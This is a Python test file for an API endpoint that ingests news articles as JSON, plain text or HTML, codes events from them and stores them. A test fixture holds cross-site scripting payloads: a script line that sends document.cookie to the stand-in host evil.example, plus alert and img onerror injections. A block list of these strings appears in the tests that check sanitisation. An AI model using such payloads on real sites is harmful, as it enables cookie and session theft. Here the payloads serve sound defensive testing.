"""POST /api/articles: a JSON record, plain text or an HTML page is coded, stored and returned with its event
ids; the same article again is answered from the store; bad input is a coded 4xx. Articles written for these
tests."""
import json

import pytest
from fastapi.testclient import TestClient

from parley.ingest import MAX_BYTES
from parley.web import create_app
from parley.web.tokens import create_token

TEXT = ("Russian drones attacked the city of Kharkiv on Tuesday night, killing three civilians and damaging a power "
        "station, the regional governor said.\n\nUkraine's foreign ministry condemned the strike.")
HOSTILE = """<!doctype html><html><head><title>Strike on Kharkiv</title>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<style>body{display:none}</style></head><body><article><h1>Strike on Kharkiv</h1>
<p>Russian drones attacked the city of Kharkiv on Tuesday night, killing three civilians and damaging a power
station, the regional governor said.<script>alert('xss')</script></p>
<p>Ukraine's foreign ministry condemned the strike <img src=x onerror="alert(1)"> as a war crime.</p>
<p>Officials said <b>repair crews</b> were at work.</p></article></body></html>"""


@pytest.fixture
def client(tmp_path, coder):
    app = create_app(str(tmp_path / "s.db"))
    app.state.coder = coder  # the session's coder: the real one, loaded once
    client = TestClient(app)
    client.headers["Authorization"] = "Bearer " + create_token(app.state.store, "tests")
    return client


def _stored_events(client):
    from sqlalchemy import select

    from parley.store.schema import events

    with client.app.state.store.engine.connect() as conn:
        return {r.id: json.loads(r.record) for r in conn.execute(select(events.c.id, events.c.record))}


def test_a_json_record_is_coded_stored_and_returned_with_event_ids(client):
    r = client.post("/api/articles", json={"id": "k1", "text": TEXT, "title": "Kharkiv", "date": "2025-03-20",
                                           "outlet": "Test Wire", "url": "https://example.org/k1"})
    assert r.status_code == 201, r.text
    doc = r.json()
    assert doc["id"] == "k1" and doc["date"] == "2025-03-20" and doc["outlet"] == "Test Wire"
    assert doc["events"], "the strike is an event"
    stored = _stored_events(client)
    assert sorted(e["event_id"] for e in doc["events"]) == sorted(stored)
    for e in doc["events"]:
        assert stored[e["event_id"]]["event_type"] == e["event_type"]
        assert e["evidence"]["sentence"] in TEXT
    assert client.get("/api/stats").json()["articles"] == 1


def test_the_same_text_again_is_answered_from_the_store_without_coding(client):
    first = client.post("/api/articles", json={"text": TEXT, "date": "2025-03-20"})
    assert first.status_code == 201

    class Refuses:
        def code(self, articles):
            raise AssertionError("an article already stored was coded again")

    client.app.state.coder = Refuses()
    again = client.post("/api/articles", content=TEXT.replace("\n\n", "\n   "), headers={"content-type": "text/plain"})
    assert again.status_code == 200, again.text
    assert [e["event_id"] for e in again.json()["events"]] == [e["event_id"] for e in first.json()["events"]]
    assert client.get("/api/stats").json() ["articles"] == 1


def test_plain_text_is_an_article(client):
    r = client.post("/api/articles", content=TEXT.encode(), headers={"content-type": "text/plain; charset=utf-8"})
    assert r.status_code == 201 and r.json()["events"]
    assert r.json()["id"].startswith("post:")


@pytest.mark.parametrize("how", ["body", "upload"])
def test_hostile_html_is_stored_as_its_text_without_markup_or_scripts(client, how):
    if how == "body":
        r = client.post("/api/articles", content=HOSTILE.encode(), headers={"content-type": "text/html"})
    else:
        r = client.post("/api/articles", files={"file": ("strike.html", HOSTILE.encode(), "text/html")},
                        data={"date": "2025-03-20"})
    assert r.status_code == 201, r.text
    doc = r.json()
    assert doc["title"] == "Strike on Kharkiv" and doc["events"]
    if how == "upload":
        assert doc["date"] == "2025-03-20" and doc["id"] == "strike.html"
    from sqlalchemy import select

    from parley.store.schema import articles

    with client.app.state.store.engine.connect() as conn:
        text = conn.execute(select(articles.c.text)).scalar_one()
    everything = text + json.dumps(doc) + json.dumps(_stored_events(client))
    for bad in ("<script", "alert(", "document.cookie", "onerror", "<img", "<b>", "display:none"):
        assert bad not in everything, bad
    assert "Russian drones attacked the city of Kharkiv" in text and "repair crews" in text


@pytest.mark.parametrize("body, kind, code, status", [
    (json.dumps({"text": ""}), "application/json", "P006", 400),
    (json.dumps({"title": "no text"}), "application/json", "P006", 400),
    (json.dumps({"text": "Talks.", "date": "20th of Smarch"}), "application/json", "P009", 400),
    (json.dumps({"text": "Talks.", "date": 20250320}), "application/json", "P009", 400),
    (json.dumps({"text": ["a list"]}), "application/json", "P054", 400),
    (json.dumps(["Talks."]), "application/json", "P054", 400),
    ("{not json", "application/json", "P054", 400),
    ("   \n ", "text/plain", "P003", 400),
    ("<html><body><script>alert(1)</script></body></html>", "text/html", "P006", 400),
    ("GIF89a", "image/gif", "P053", 415),
])
def test_bad_input_is_a_coded_4xx_and_stores_nothing(client, body, kind, code, status):
    r = client.post("/api/articles", content=body.encode(), headers={"content-type": kind})
    assert r.status_code == status, r.text
    err = r.json()["error"]
    assert err["code"] == code and err["message"].startswith(f"[{code}]") and "Traceback" not in r.text
    assert client.get("/api/stats").json()["articles"] == 0


def test_an_upload_without_a_file_is_refused(client):
    r = client.post("/api/articles", data={"title": "nothing"}, files={"other": ("a.txt", b"x", "text/plain")})
    assert r.status_code == 400 and r.json()["error"]["code"] == "P054"


@pytest.mark.parametrize("how", ["json", "text", "upload"])
def test_an_article_over_the_size_limit_is_a_413(client, how):
    big = "Talks went on. " * (MAX_BYTES // 15 + 10)
    if how == "json":
        r = client.post("/api/articles", json={"text": big})
    elif how == "text":
        r = client.post("/api/articles", content=big.encode(), headers={"content-type": "text/plain"})
    else:
        r = client.post("/api/articles", files={"file": ("big.html", big.encode(), "text/html")})
    assert r.status_code == 413
    assert r.json()["error"]["code"] == "P036" and f"{MAX_BYTES:,}" in r.json()["error"]["message"]


def test_the_coder_is_loaded_once_by_the_first_post(tmp_path, coder, monkeypatch):
    import threading

    import parley.pipeline

    made = []

    class Counting:
        def __init__(self):
            made.append(threading.get_ident())

        def code(self, articles):
            return coder.code(articles)

    monkeypatch.setattr(parley.pipeline, "Coder", Counting)
    app = create_app(str(tmp_path / "s.db"))
    assert app.state.coder is None
    client = TestClient(app)
    client.headers["Authorization"] = "Bearer " + create_token(app.state.store, "t")
    assert client.get("/api/stats").status_code == 200 and not made  # reading never loads it
    assert client.post("/api/articles", json={"text": TEXT}).status_code == 201
    assert client.post("/api/articles", json={"text": "Ukraine and Russia agreed to a prisoner swap."}).status_code == 201
    assert len(made) == 1 and isinstance(app.state.coder, Counting)


def test_concurrent_first_posts_load_one_coder_and_store_the_article_once(tmp_path, coder, monkeypatch):
    import threading
    import time
    from concurrent.futures import ThreadPoolExecutor

    import parley.pipeline

    made = []

    class Slow:
        def __init__(self):
            made.append(threading.get_ident())
            time.sleep(0.3)  # loading takes a while: the other requests arrive meanwhile

        def code(self, articles):
            return coder.code(articles)

    monkeypatch.setattr(parley.pipeline, "Coder", Slow)
    app = create_app(str(tmp_path / "s.db"))
    client = TestClient(app)
    headers = {"Authorization": "Bearer " + create_token(app.state.store, "t")}
    with ThreadPoolExecutor(4) as pool:
        answers = list(pool.map(lambda _: client.post("/api/articles", json={"text": TEXT}, headers=headers),
                                range(4)))
    assert len(made) == 1
    assert sorted(r.status_code for r in answers) == [200, 200, 200, 201]  # coded once, the others from the store
    ids = {tuple(e["event_id"] for e in r.json()["events"]) for r in answers}
    assert len(ids) == 1  # every answer names the same stored events
    assert client.get("/api/stats").json()["articles"] == 1
    assert len(_stored_events(client)) == len(answers[0].json()["events"])


def test_a_new_text_at_a_stored_url_replaces_the_article(client):
    url = "https://example.org/story"
    first = client.post("/api/articles", json={"text": TEXT, "url": url})
    second = client.post("/api/articles", json={"text": "Ukraine and Russia agreed to a prisoner swap.", "url": url})
    assert first.status_code == 201 and second.status_code == 201  # corrected text: coded again
    assert client.get("/api/stats").json()["articles"] == 1
    assert sorted(_stored_events(client)) == sorted(e["event_id"] for e in second.json()["events"])
